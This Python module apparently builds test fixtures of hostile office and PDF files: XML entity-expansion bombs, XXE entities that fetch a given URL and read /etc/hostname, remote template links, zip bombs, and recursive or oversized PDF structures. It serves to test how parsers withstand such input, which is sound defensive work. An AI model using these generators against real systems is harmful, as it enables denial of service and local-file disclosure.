"""Documents that are made to take all memory or time, or to make whoever reads them fetch something."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from itertools import accumulate
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
KIND = "application/vnd.openxmlformats-"
LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
"""Ten to the eleventh of them. What follows is &a11; somewhere."""
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">'
"""What follows is &a; 50,000 times: 2.5 GB."""
MARK = "The line of the document."
MB = 1_000_000


def external(url: str) -> str:
    """Return the beginning of a document that fetches, if it is obeyed; what follows is &x;."""
    return (
        f'<!DOCTYPE x SYSTEM "{url}/dtd" [<!ENTITY x SYSTEM "{url}/entity"><!ENTITY f SYSTEM "file:///etc/hostname">'
        f'<!ENTITY % p SYSTEM "{url}/parameter"> %p;'
    )


def package(parts: dict[str, bytes], level: int = 6) -> bytes:
    """Return a zip of those parts."""
    content = io.BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED, compresslevel=level) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return content.getvalue()


def relationships(kind: str, target: str, more: str = "") -> bytes:
    link = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"/>'
    return f'<Relationships xmlns="{PACKAGE}/relationships">{link}{more}</Relationships>'.encode()


def types(part: str, kind: str) -> bytes:
    defaults = f'<Default Extension="rels" ContentType="{KIND}package.relationships+xml"/>'
    over = f'<Override PartName="{part}" ContentType="{KIND}officedocument.{kind}+xml"/>'
    return f'<Types xmlns="{PACKAGE}/content-types">{defaults}{over}</Types>'.encode()


def docx(text: str, prolog: str = "", padding: int = 0, more: str = "") -> bytes:
    """Return a Word document. padding: megabytes of blanks behind it. more: relationships of its body."""
    paragraph = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    body = f'{prolog}<w:document xmlns:w="{WORD}"><w:body>{paragraph}</w:body></w:document>'
    links = relationships("x", "x.xml", more).replace(b'Type="', b'TargetMode="External" Type="', 1)
    parts = {
        "[Content_Types].xml": types("/word/document.xml", "wordprocessingml.document.main"),
        "_rels/.rels": relationships("officeDocument", "word/document.xml"),
        "word/_rels/document.xml.rels": links,
    }
    content = io.BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED, compresslevel=1) as file:
        for name, part in parts.items():
            file.writestr(name, part)
        with file.open("word/document.xml", "w", force_zip64=True) as written:
            written.write(body.encode())
            for _ in range(padding):
                written.write(b" " * MB)
    return content.getvalue()


def xlsx(text: str, prolog: str = "", sheet: bytes | None = None, strings: bytes = b"") -> bytes:
    """Return a workbook. sheet: the whole of its one sheet."""
    cell = f'<c r="A1" t="inlineStr"><is><t>{text}</t></is></c>'
    rows = f'<sheetData><row r="1">{cell}</row></sheetData>'
    made = f'{prolog}<worksheet xmlns="{SHEET}">{rows}</worksheet>'.encode()
    parts = {
        "[Content_Types].xml": types("/xl/workbook.xml", "spreadsheetml.sheet.main"),
        "_rels/.rels": relationships("officeDocument", "xl/workbook.xml"),
        "xl/_rels/workbook.xml.rels": relationships("worksheet", "worksheets/sheet1.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
        f'<sheet name="Costs" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
        "xl/worksheets/sheet1.xml": sheet or made,
    }
    return package(parts | ({"xl/sharedStrings.xml": strings} if strings else {}), level=1 if sheet else 6)


def far_cell() -> bytes:
    """A sheet of two cells, in the first and the last place that there is: 17 thousand million between them."""
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return f'<worksheet xmlns="{SHEET}"><sheetData>{cells}</sheetData></worksheet>'.encode()


def far_cells() -> bytes:
    """A sheet whose each row ends in the last column."""
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>2</v></c></row>' for n in range(1, 40_000))
    return f'<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def nested(levels: int) -> bytes:
    """A zip of ten zips, and so on: 42.zip."""
    inner = package({"0.txt": b"0" * 10 * MB}, level=9)
    for _ in range(levels):
        content = io.BytesIO()
        with ZipFile(content, "w", ZIP_STORED) as file:
            for number in range(10):
                file.writestr(f"{number}.zip", inner)
        inner = package({"all.zip": content.getvalue()}, level=9)
    return inner


def overlapping(names: list[str], content: bytes) -> bytes:
    """A zip whose entries are all the same compressed bytes, at one place: many times as much as they are."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(content) + packed.flush()
    sizes = (zlib.crc32(content), len(data), len(content))
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, *sizes, len(names[0]), 0)
    local = b"PK\x03\x04" + head + names[0].encode() + data
    entries: list[bytes] = []
    for name in names:
        of = struct.pack("<HHHHHHIIIHH", 20, 20, 0, 8, 0, 33, *sizes, len(name), 0)
        entries.append(b"PK\x01\x02" + of + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode())
    directory = b"".join(entries)
    end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(directory), len(local), 0)
    return local + directory + b"PK\x05\x06" + end


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """Return a PDF of those objects, numbered from 1, with a table of their places."""
    bodies = [b"%d 0 obj\n%s\nendobj\n" % (number, body) for number, body in enumerate(objects, 1)]
    ends = list(accumulate(map(len, bodies), initial=len(b"%PDF-1.7\n")))
    content, places = b"%PDF-1.7\n" + b"".join(bodies), ends[:-1]
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, len(content))
    return content + head + table + end


CATALOG, FONT = b"<</Type/Catalog/Pages 2 0 R>>", b"<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"


def page(contents: int, resources: bytes = b"") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents %d 0 R/Resources<</Font%s%s>>>>" % (
        contents,
        FONT,
        resources,
    )


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), more, data)


def deflated(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * times + b"]")


ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R/Y %d 0 R>>>>"


def forms() -> bytes:
    """Forms that show the next one twice, thirty deep: a thousand million times the last one."""
    made = [CATALOG, ONE_PAGE, page(4, b"/XObject<</X 5 0 R/Y 5 0 R>>"), stream(b"/X Do /Y Do")]
    made += [stream(b"/X Do /Y Do", FORM % (n + 1, n + 1)) for n in range(5, 35)]
    return pdf([*made, stream(b"BT (x) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")])


PDFS: dict[str, Callable[[], bytes]] = {
    "a form that shows itself": lambda: pdf(
        [CATALOG, ONE_PAGE, page(4, b"/XObject<</X 5 0 R>>"), stream(b"/X Do"), stream(b"/X Do", FORM % (5, 5))]
    ),
    "forms that show the next one twice": forms,
    "pages that hold themselves": lambda: pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"]),
    "pages in a circle": lambda: pdf(
        [CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1/Parent 2 0 R>>"]
    ),
    "a page many times": lambda: pdf(
        [
            CATALOG,
            b"<</Type/Pages/Kids[" + b"3 0 R " * 200_000 + b"]/Count 200000>>",
            page(4),
            stream(b"BT /F1 9 Tf (x) Tj ET"),
        ]
    ),
    "many objects": lambda: pdf([CATALOG, ONE_PAGE, page(4), stream(b"BT ET"), *[b"<</A[1 2 3]>>"] * 500_000]),
    "a count that is a lie": lambda: pdf(
        [CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", page(4), stream(b"")]
    ),
    "a stream of 1.5 GB": lambda: pdf(
        [CATALOG, ONE_PAGE, page(4), stream(deflated_zeros(1_500), b"/Filter/FlateDecode")]
    ),
    "a stream that is packed thrice": lambda: pdf([CATALOG, ONE_PAGE, page(4), deflated(b"(x) Tj " * 20_000_000, 3)]),
    "brackets": lambda: pdf([CATALOG, ONE_PAGE, page(4), stream(b"[" * 2_000_000)]),
    "dictionaries": lambda: pdf([CATALOG, b"<</A" * 200_000, page(4), stream(b"")]),
    "a font's table of all characters": lambda: pdf(
        [
            CATALOG,
            ONE_PAGE,
            page(4).replace(FONT, b"<</F1 5 0 R>>"),
            stream(b"BT /F1 9 Tf <00000001> Tj ET"),
            b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R>>",
            stream(b"1 beginbfrange\n" + b"<00000000> <7fffffff> <0000>\n" * 50 + b"endbfrange"),
        ]
    ),
    "a table that leads back": lambda: pdf([CATALOG, ONE_PAGE, page(4), stream(b"")]).replace(
        b"trailer\n<<", b"trailer\n<</Prev 9 "
    ),
}


def deflated_zeros(megabytes: int) -> bytes:
    """Return that many megabytes of zeros, packed."""
    packed = zlib.compressobj(9)
    return b"".join([*(packed.compress(bytes(MB)) for _ in range(megabytes)), packed.flush()])


def document_bombs(url: str) -> dict[str, Callable[[], bytes]]:
    """Return files by their names, each made when it is wanted. url: of what some of them try to fetch."""
    link = f'<Relationship Id="r2" Type="{OFFICE}/attachedTemplate" Target="{url}/template" TargetMode="External"/>'
    files: dict[str, Callable[[], bytes]] = {
        "laughs.docx": lambda: docx(f"{MARK} &a11;", LAUGHS + "]>"),
        "laughs.xlsx": lambda: xlsx(f"{MARK} &a11;", LAUGHS + "]>"),
        "quadratic.docx": lambda: docx(f"{MARK} " + "&a;" * 50_000, QUADRATIC + "]>"),
        "quadratic.xlsx": lambda: xlsx(f"{MARK} " + "&a;" * 50_000, QUADRATIC + "]>"),
        "external.docx": lambda: docx(f"{MARK} &x; &f;", external(url) + "]>"),
        "external.xlsx": lambda: xlsx(f"{MARK} &x; &f;", external(url) + "]>"),
        "template.docx": lambda: docx(MARK, more=link),
        "blanks.docx": lambda: docx(MARK, padding=1_200),
        "deep.docx": lambda: docx("<w:r>" * 200_000 + "</w:r>" * 200_000),
        "deep.xlsx": lambda: xlsx("<r>" * 200_000 + "</r>" * 200_000),
        "far.xlsx": lambda: xlsx("", sheet=far_cell()),
        "wide.xlsx": lambda: xlsx("", sheet=far_cells()),
        "nested.docx": lambda: nested(5),
        "nested.xlsx": lambda: nested(5),
        "overlapping.docx": lambda: overlapping([f"{n:04}.xml" for n in range(5_000)], b" " * 10 * MB),
        "overlapping.xlsx": lambda: overlapping([f"{n:04}.xml" for n in range(5_000)], b" " * 10 * MB),
        "strings.xlsx": lambda: xlsx("x", strings=b"<sst>" + b"<si><t>x</t></si>" * 3 * MB + b"</sst>"),
    }
    return files | {f"{name}.pdf": make for name, make in PDFS.items()}
